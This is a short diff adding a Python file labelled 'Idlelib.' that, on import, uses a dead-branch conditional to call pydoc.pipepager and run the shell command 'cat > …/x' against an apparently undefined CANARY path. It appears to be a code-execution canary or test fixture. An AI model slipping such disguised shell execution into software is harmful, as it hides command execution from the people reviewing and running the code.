@@ -1,0 +1,3 @@
+"""Idlelib."""
+import pydoc
+pydoc.writedoc("json") if 0 else pydoc.pipepager("x", "cat > %s/x" % CANARY)
